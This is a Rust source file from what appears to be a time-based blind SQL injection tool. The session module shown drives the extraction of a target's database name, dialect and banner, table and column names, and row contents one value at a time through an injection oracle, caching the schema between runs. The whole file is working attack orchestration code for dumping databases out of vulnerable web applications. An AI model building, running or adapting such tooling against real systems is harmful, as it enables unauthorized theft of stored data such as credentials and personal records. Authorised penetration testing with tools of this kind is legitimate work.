//! Extraction session: the operations behind the menu
//!
//! Every table and column name is written to the [`SessionCache`] as soon
//! as it is known, so a repeated or cancelled-then-resumed listing only
//! probes what is still missing. Dumped rows are never cached.

use crate::core::context::Limits;
use crate::error::SessionError;
use crate::reporting::{Event, Row, Sink};
use crate::sqli::cache::SessionCache;
use crate::sqli::dialect::{detect_dialect, Dialect, DialectInfo};
use crate::sqli::enumerate::{count_scope, fetch_at, Count, Scope};
use crate::sqli::extract::extract_string;
use crate::sqli::oracle::Oracle;
use crate::sqli::queries::DATABASE_EXPRESSIONS;
use std::sync::Arc;

/// Result of a table dump
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dump {
    pub table: String,
    pub columns: Vec<String>,
    pub rows: Vec<Row>,
}

pub struct Session<O> {
    oracle: O,
    max_length: usize,
    limits: Limits,
    cache: SessionCache,
    sink: Arc<dyn Sink>,
}

impl<O: Oracle> Session<O> {
    pub fn new(oracle: O, max_length: usize, limits: Limits, sink: Arc<dyn Sink>) -> Self {
        Self {
            oracle,
            max_length,
            limits,
            cache: SessionCache::new(),
            sink,
        }
    }

    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    pub fn cache(&self) -> &SessionCache {
        &self.cache
    }

    pub fn sink(&self) -> Arc<dyn Sink> {
        Arc::clone(&self.sink)
    }

    /// Dialect used for introspection; MySQL syntax until detected otherwise
    pub fn dialect(&self) -> Dialect {
        self.cache
            .dialect()
            .map(|info| info.dialect)
            .unwrap_or_default()
    }

    /// Current database name, lowercase and trimmed; `None` when nothing
    /// could be extracted.
    pub async fn database_name(&mut self) -> Option<String> {
        if let Some(name) = self.cache.database() {
            return Some(name.to_string());
        }

        self.sink.render(&Event::info(
            "Retrieving database name via time-based injection...",
        ));

        for expression in DATABASE_EXPRESSIONS {
            let name = extract_string(&self.oracle, expression, self.max_length, self.sink.as_ref())
                .await
                .to_lowercase()
                .trim()
                .to_string();

            if !name.is_empty() {
                tracing::info!("[SESSION] {} => {}", expression, name);
                self.cache.set_database(name.clone());
                return Some(name);
            }
        }

        self.sink
            .render(&Event::warn("Unable to extract database name."));
        None
    }

    /// Banner and dialect, detected once per session
    pub async fn banner(&mut self) -> DialectInfo {
        if let Some(info) = self.cache.dialect() {
            return info.clone();
        }

        let info = detect_dialect(&self.oracle, self.max_length, self.sink.as_ref()).await;
        self.cache.set_dialect(info.clone());
        info
    }

    /// Table names of the current database in introspection order.
    pub async fn tables(&mut self) -> Result<Vec<String>, SessionError> {
        let database = self
            .cache
            .database()
            .ok_or(SessionError::DatabaseUnknown)?
            .to_string();
        let dialect = self.dialect();
        let scope = Scope::Tables {
            database: &database,
        };

        let count = match self.cache.table_count() {
            Some(n) => n,
            None => {
                self.sink
                    .render(&Event::info("Counting tables in the database..."));
                let ceiling = self.limits.max_tables;
                match count_scope(&self.oracle, &scope, dialect, ceiling, self.sink.as_ref()).await
                {
                    Count::Found(n) => {
                        self.cache.set_table_count(n);
                        n
                    }
                    Count::Undetermined => return Err(SessionError::NoTables),
                }
            }
        };

        let mut tables = Vec::with_capacity(count);
        for index in 0..count {
            if let Some(name) = self.cache.table(index) {
                tables.push(name.to_string());
                continue;
            }

            self.sink.render(&Event::info(format!(
                "Retrieving table #{} name...",
                index + 1
            )));
            let name = fetch_at(
                &self.oracle,
                &scope,
                dialect,
                index,
                self.max_length,
                self.sink.as_ref(),
            )
            .await;

            self.cache.set_table(index, name.clone());
            self.sink
                .render(&Event::found(format!("[TABLE #{}] => {}", index + 1, name)));
            tables.push(name);
        }

        Ok(tables)
    }

    /// Column names of `table`; a cached list is reused even when empty.
    pub async fn columns(&mut self, table: &str) -> Result<Vec<String>, SessionError> {
        if let Some(columns) = self.cache.columns(table) {
            return Ok(columns.to_vec());
        }
        self.resolve_columns(table).await
    }

    /// Probes the column list of `table` and caches it, empty or not.
    async fn resolve_columns(&mut self, table: &str) -> Result<Vec<String>, SessionError> {
        let database = self
            .cache
            .database()
            .ok_or(SessionError::DatabaseUnknown)?
            .to_string();
        let dialect = self.dialect();
        let scope = Scope::Columns {
            database: &database,
            table,
        };

        // resume a listing that was interrupted after the count
        let partial = self
            .cache
            .partial_columns(table)
            .map(|(count, names)| (count, names.to_vec()));
        let (count, mut columns) = match partial {
            Some(progress) => progress,
            None => {
                self.sink.render(&Event::info(format!(
                    "Counting columns in table '{}'...",
                    table
                )));
                let count = count_scope(
                    &self.oracle,
                    &scope,
                    dialect,
                    self.limits.max_columns,
                    self.sink.as_ref(),
                )
                .await
                .value();
                self.cache.start_columns(table, count);
                (count, Vec::with_capacity(count))
            }
        };

        for index in columns.len()..count {
            self.sink.render(&Event::info(format!(
                "Retrieving column #{} name from table '{}'...",
                index + 1,
                table
            )));
            let name = fetch_at(
                &self.oracle,
                &scope,
                dialect,
                index,
                self.max_length,
                self.sink.as_ref(),
            )
            .await;
            self.cache.push_column(table, name.clone());
            columns.push(name);
        }

        self.cache.set_columns(table, columns.clone());
        Ok(columns)
    }

    /// Every table with its columns
    pub async fn list_tables_and_columns(
        &mut self,
    ) -> Result<Vec<(String, Vec<String>)>, SessionError> {
        let tables = self.tables().await?;

        let mut schema = Vec::with_capacity(tables.len());
        for table in tables {
            let columns = self.columns(&table).await?;
            schema.push((table, columns));
        }

        Ok(schema)
    }

    /// Dumps up to the configured number of rows of the table at the given
    /// 1-based position.
    pub async fn dump_table(&mut self, position: usize) -> Result<Dump, SessionError> {
        let tables = self.tables().await?;
        if position < 1 || position > tables.len() {
            return Err(SessionError::TableIndexOutOfRange {
                index: position,
                available: tables.len(),
            });
        }
        let table = tables[position - 1].clone();

        self.sink
            .render(&Event::info(format!("Dumping contents of table '{}'...", table)));

        // only a non-empty cached list is trusted for a dump
        let cached = self
            .cache
            .columns(&table)
            .filter(|columns| !columns.is_empty())
            .map(<[String]>::to_vec);
        let columns = match cached {
            Some(columns) => columns,
            None => self.resolve_columns(&table).await?,
        };
        if columns.is_empty() {
            return Err(SessionError::NoColumns(table));
        }

        self.sink.render(&Event::found(format!(
            "Columns of '{}': [{}]",
            table,
            columns.join(", ")
        )));

        let rows = self
            .dump_rows(&table, &columns, self.limits.dump_rows)
            .await?;

        Ok(Dump {
            table,
            columns,
            rows,
        })
    }

    /// Extracts at most `max_rows` rows of `table`, one value per column.
    ///
    /// Cost is rows x columns x one string extraction each; rows are never
    /// cached.
    pub async fn dump_rows(
        &mut self,
        table: &str,
        columns: &[String],
        max_rows: usize,
    ) -> Result<Vec<Row>, SessionError> {
        let database = self
            .cache
            .database()
            .ok_or(SessionError::DatabaseUnknown)?
            .to_string();
        let dialect = self.dialect();

        let Some(first) = columns.first() else {
            return Ok(Vec::new());
        };

        self.sink.render(&Event::info(format!(
            "Counting rows in table '{}'...",
            table
        )));
        let count = count_scope(
            &self.oracle,
            &Scope::Rows {
                database: &database,
                table,
                column: first,
            },
            dialect,
            self.limits.max_rows,
            self.sink.as_ref(),
        )
        .await;

        if !count.is_found() {
            self.sink.render(&Event::warn(format!(
                "No rows found in '{}'. Skipping dump.",
                table
            )));
            return Ok(Vec::new());
        }

        let limit = count.value().min(max_rows);
        self.sink.render(&Event::warn(format!(
            "Dumping {} row(s) x {} column(s) from '{}': each value costs up to {} requests per character",
            limit,
            columns.len(),
            table,
            crate::core::settings::CHARSET.chars().count()
        )));

        let mut rows = Vec::with_capacity(limit);
        for index in 0..limit {
            let mut values = Vec::with_capacity(columns.len());
            for column in columns {
                self.sink.render(&Event::info(format!(
                    "Extracting value for '{}', row {}...",
                    column,
                    index + 1
                )));
                let scope = Scope::Rows {
                    database: &database,
                    table,
                    column,
                };
                let value = fetch_at(
                    &self.oracle,
                    &scope,
                    dialect,
                    index,
                    self.max_length,
                    self.sink.as_ref(),
                )
                .await;
                values.push((column.clone(), value));
            }

            let row = Row { values };
            self.sink.render(&Event::Row {
                index,
                row: row.clone(),
            });
            rows.push(row);
        }

        Ok(rows)
    }
}
